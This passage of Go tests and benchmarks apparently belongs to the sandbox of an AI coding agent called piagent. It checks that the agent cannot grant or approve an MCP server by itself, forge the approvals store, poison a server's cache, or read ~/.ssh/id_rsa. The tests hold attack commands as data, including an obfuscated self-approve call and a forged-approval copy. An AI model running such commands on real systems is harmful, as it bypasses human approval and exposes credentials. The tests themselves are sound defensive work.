	needSandbox(t)
	bin, err := floorOnce()
	if err != nil {
		t.Fatal(err)
	}
	dir, outside := t.TempDir(), t.TempDir()
	for _, mode := range []string{"landlock", "twoproc"} {
		script := `echo in > ` + dir + `/` + mode + ` && echo out > ` + outside + `/` + mode + `; tr '\0' ' ' < /proc/1/cmdline`
		out, _ := exec.Command(bin, mode, dir, "--", "/bin/sh", "-c", script).CombinedOutput()
		if _, err := os.Stat(filepath.Join(dir, mode)); err != nil {
			t.Errorf("%s: the write inside the folder failed: %s", mode, out)
		}
		if _, err := os.Stat(filepath.Join(outside, mode)); err == nil {
			t.Errorf("%s: a write outside the folder succeeded", mode)
		}
		if mode == "twoproc" && !strings.Contains(string(out), "floor init") {
			t.Errorf("twoproc: the command is not in a PID namespace of its own:\n%s", out)
		}
	}
}

// BenchmarkSeamsSteps is what issue 37's steps cost at each start, timed
// inside the processes (the fault build's "steps": nanoseconds per step on
// standard error): the private folders made and checked, the inherited
// descriptors closed, the init made non-dumpable, its own pseudo-terminals,
// every capability dropped, and the whole seccomp filter built and
// installed (the seams' rules are part of it; BenchmarkSeccompInstall
// sets the whole filter beside a one-rule filter). Medians over b.N
// starts, in microseconds, and their sum (seams-µs, an upper bound: the
// private folders and a filter existed before the seams issue);
// Landlock and the mounts, the ordinary-user issue's, beside them.
func BenchmarkSeamsSteps(b *testing.B) {
	if sandbox.Probe().Mechanism == "" {
		b.Skip("no sandbox here")
	}
	dir := b.TempDir()
	got := map[string][]int64{}
	for b.Loop() {
		cmd := exec.Command(faultBin, "sandbox", "exec", "--", "/bin/true")
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "PIAGENT_SANDBOX_FAULT=steps")
		out, err := cmd.CombinedOutput()
		if err != nil {
			b.Fatalf("%v: %s", err, out)
		}
		n := 0
		for line := range strings.Lines(string(out)) {
			rest, ok := strings.CutPrefix(strings.TrimSpace(line), "piagent-steps:")
			if !ok {
				continue
			}
			for kv := range strings.FieldsSeq(rest) {
				k, v, _ := strings.Cut(kv, "=")
				ns, err := strconv.ParseInt(v, 10, 64)
				if err != nil {
					b.Fatalf("step %q: %v", kv, err)
				}
				got[k] = append(got[k], ns)
				n++
			}
		}
		if n == 0 {
			b.Fatalf("no step timed: %s", out)
		}
	}
	median := func(v []int64) float64 {
		slices.Sort(v)
		return float64(v[len(v)/2]) / 1000
	}
	seams := []string{"private", "close", "dumpable", "pts", "caps", "seccomp"}
	sums := make([]int64, b.N)
	for _, k := range seams {
		if len(got[k]) != b.N {
			b.Fatalf("step %s timed %d times in %d starts", k, len(got[k]), b.N)
		}
		for i, v := range got[k] {
			sums[i] += v
		}
	}
	b.ReportMetric(0, "ns/op")
	for k, v := range got {
		b.ReportMetric(median(v), k+"-µs")
	}
	b.ReportMetric(median(sums), "seams-µs")
}

func benchExec(b *testing.B, bin string, args ...string) {
	if sandbox.Probe().Mechanism == "" {
		b.Skip("no sandbox here")
	}
	dir := b.TempDir()
	for b.Loop() {
		cmd := exec.Command(bin, args...)
		cmd.Dir = dir
		if err := cmd.Run(); err != nil {
			b.Fatal(err)
		}
	}
}

// runServer runs a shell command line under the server profile of evil.
func (w *world) runServer(t *testing.T, script string) (string, error) {
	t.Helper()
	cmd := exec.Command(piagentBin, "sandbox", "exec", "--profile", "server", "--server", "evil", "--project", w.proj, "--", "/bin/sh", "-c", script)
	cmd.Dir, cmd.Env = w.proj, w.env
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// Issue 20: a filesystem-style server is denied ~/notes until a person
// grants it; the grant cannot come from the agent, whose commands cannot
// write the grants file whatever they compute.
func TestServerGrantRoundTrip(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	notes := filepath.Join(w.home, "notes")
	must(t, os.MkdirAll(notes, 0o755))
	write(t, filepath.Join(w.home, ".ssh", "id_rsa"), "PRIVATE")
	if out, err := w.runServer(t, "echo a > ~/notes/a.md"); err == nil {
		t.Fatalf("ungranted write to ~/notes succeeded: %s", out)
	}
	// the agent asks for the grant: refused by its own sandbox
	if out, err := w.run(t, `python3 -c "import subprocess;subprocess.run(['pia'+'gent-mcp','grant','evil','--write','`+notes+`'],check=True)"`); err == nil {
		t.Fatalf("the agent granted: %s", out)
	}
	// the person grants
	cmd := exec.Command(filepath.Join(filepath.Dir(piagentBin), "piagent-mcp"), "grant", "evil", "--write", notes)
	cmd.Dir, cmd.Env = w.proj, w.env
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("grant: %v\n%s", err, out)
	}
	if out, err := w.runServer(t, "echo a > ~/notes/a.md && cat ~/notes/a.md"); err != nil || !strings.Contains(out, "a") {
		t.Fatalf("granted write failed: %v %s", err, out)
	}
	// a grant to write ~/.pi is refused
	cmd = exec.Command(filepath.Join(filepath.Dir(piagentBin), "piagent-mcp"), "grant", "evil", "--write", filepath.Join(w.home, ".pi"))
	cmd.Dir, cmd.Env = w.proj, w.env
	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "decides what runs") {
		t.Fatalf("granting ~/.pi: %v %s", err, out)
	}
	// credentials stay out of reach, and the server's temporary folder is its own
	out, err := w.runServer(t, `cat ~/.ssh/id_rsa; echo "tmp=$TMPDIR"; echo x > /tmp/server-wrote-here 2>&1 || echo no-tmp`)
	if err != nil || strings.Contains(out, "PRIVATE") || !strings.Contains(out, "no-tmp") || !strings.Contains(out, "piagent-sandbox-") {
		t.Fatalf("server profile: %v\n%s", err, out)
	}
}

func BenchmarkSandboxServerExecTrue(b *testing.B) {
	if sandbox.Probe().Mechanism == "" {
		b.Skip("no sandbox here")
	}
	dir := b.TempDir()
	for b.Loop() {
		cmd := exec.Command(piagentBin, "sandbox", "exec", "--profile", "server", "--server", "s", "--project", dir, "--", "/bin/true")
		cmd.Dir = dir
		if err := cmd.Run(); err != nil {
			b.Fatal(err)
		}
	}
}

// TestAttackControl: the attacks are real. Unconfined, the same computed
// approve and the same copy of a forged store make evil ready.
func TestAttackControl(t *testing.T) {
	needSandbox(t)
	for _, script := range []string{
		`python3 -c "import subprocess;subprocess.run(['pia'+'gent-mcp','approve','evil','--yes'])"`,
		`cp $F/piagent-mcp-approvals.json ~/.pi/`,
	} {
		w := newWorld(t)
		cmd := exec.Command("/bin/bash", "-c", script)
		cmd.Dir, cmd.Env = w.proj, append(w.env, "F="+w.forge)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s: %v\n%s", script, err, out)
		}
		if s, _ := w.gate(t).Server("evil"); s == nil || s.State != gate.Ready && s.State != gate.NeedsCommand {
			t.Errorf("control %s: evil is %v, want approved", script, s)
		}
	}
}

// TestNpmCIUnderSandbox: npm ci in a scratch project works under the
// profile, its cache private (the user's npm cache is read-only there).
func TestNpmCIUnderSandbox(t *testing.T) {
	needSandbox(t)
	if testing.Short() {
		t.Skip("needs the npm registry")
	}
	npm, err := exec.LookPath("npm")
	if err != nil {
		t.Skip("npm is not on PATH")
	}
	w := newWorld(t)
	scratch := filepath.Join(w.proj, "scratch")
	write(t, filepath.Join(scratch, "package.json"), `{"name":"scratch","version":"1.0.0","private":true,"dependencies":{"is-number":"7.0.0"}}`)
	lock := exec.Command(npm, "install", "--package-lock-only", "--no-audit", "--no-fund")
	lock.Dir = scratch
	if out, err := lock.CombinedOutput(); err != nil {
		t.Skipf("cannot reach the npm registry to make a lockfile: %v\n%s", err, out)
	}
	out, err := w.run(t, "cd scratch && npm ci --no-audit --no-fund && node -e 'console.log(require(\"is-number\")(5))'")
	if err != nil || !strings.Contains(out, "true") {
		t.Fatalf("npm ci under the sandbox: %v\n%s", err, out)
	}
}

// TestAgentCannotPoisonServerCache: a server's private package cache is
// code it runs; the agent's commands cannot write it.
func TestAgentCannotPoisonServerCache(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	if out, err := w.runServer(t, `mkdir -p "$npm_config_cache/_npx" && echo ok > "$npm_config_cache/_npx/marker" && echo "$npm_config_cache"`); err != nil {
		t.Fatalf("the server could not write its own cache: %v\n%s", err, out)
	} else {
		cache := strings.TrimSpace(lastLine(out))
		if !strings.HasPrefix(cache, filepath.Join(w.home, ".pi", "piagent", "sandbox")) {
			t.Fatalf("the server's cache is at %s, not in piagent's own folder", cache)
		}
		if out, err := w.run(t, "echo evil > '"+filepath.Join(cache, "_npx", "marker")+"'"); err == nil {
			t.Fatalf("the agent wrote the server's cache: %s", out)
		}
		if data, _ := os.ReadFile(filepath.Join(cache, "_npx", "marker")); strings.TrimSpace(string(data)) != "ok" {
			t.Fatalf("the server's cache changed: %q", data)
		}
	}
}

// TestRegistryWritesUnderSandbox: the registry, entry by entry, under the
// real sandbox rather than the command reader: a write to each registered
// file (a new file in each registered folder) fails, and nothing changes.
func TestRegistryWritesUnderSandbox(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	// The profile names what it cannot keep: registered files that do not
	// exist yet inside a writable folder. Each must be an MCP file, whose
	// servers the gate treats as unapproved whoever writes them.
	st := exec.Command(piagentBin, "sandbox", "status", "--json")
	st.Dir, st.Env = w.proj, w.env
	raw, err := st.Output()
	must(t, err)
	var status struct {
		Profile sandbox.Profile `json:"profile"`
	}
	must(t, json.Unmarshal(raw, &status))
	unprotected := map[string]bool{}
	for _, p := range status.Profile.Unprotected {
		unprotected[p] = true
	}
	before := w.snapshot(t)
	var script strings.Builder
	n := 0
	for _, e := range w.gate(t).Registry(nil, nil) {
		if unprotected[e.Path] {
			// git's folders that do not exist yet, and the other coding
			// tools' files, are the integrity watch's
			// (engine.newIntegrity, TestOtherToolsIntegrity): a change
			// there is put back and blocks the session
			watched := e.Owner == registry.Git && slices.Contains([]string{"commondir", "info", "worktrees", "config.worktree"}, filepath.Base(e.Path)) ||
				e.Owner == registry.Tools
			if e.Owner != registry.MCP && !watched {
				t.Errorf("%s (%s) is not protected by the sandbox", e.Path, e.Owner)
			}
			continue
		}
		target := e.Path
		if e.Dir {
			target = filepath.Join(e.Path, "planted")
		}
		n++
		fmt.Fprintf(&script, "if (printf x > %q) 2>/dev/null; then echo \"WROTE %s\"; fi\n", target, target)
	}
	out, _ := w.run(t, script.String())
	if strings.Contains(out, "WROTE") {
		t.Errorf("writes the sandbox let through:\n%s", out)
	}
	after := w.snapshot(t)
	for p, h := range before {
		if after[p] != h {
			t.Errorf("%s changed", p)
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok && !unprotected[p] {
			t.Errorf("%s appeared", p)
		}
	}
	t.Logf("%d registry entries written to under the sandbox: all refused (%d missing MCP files the profile lists as unprotected, gated as unapproved)", n, len(unprotected))
}
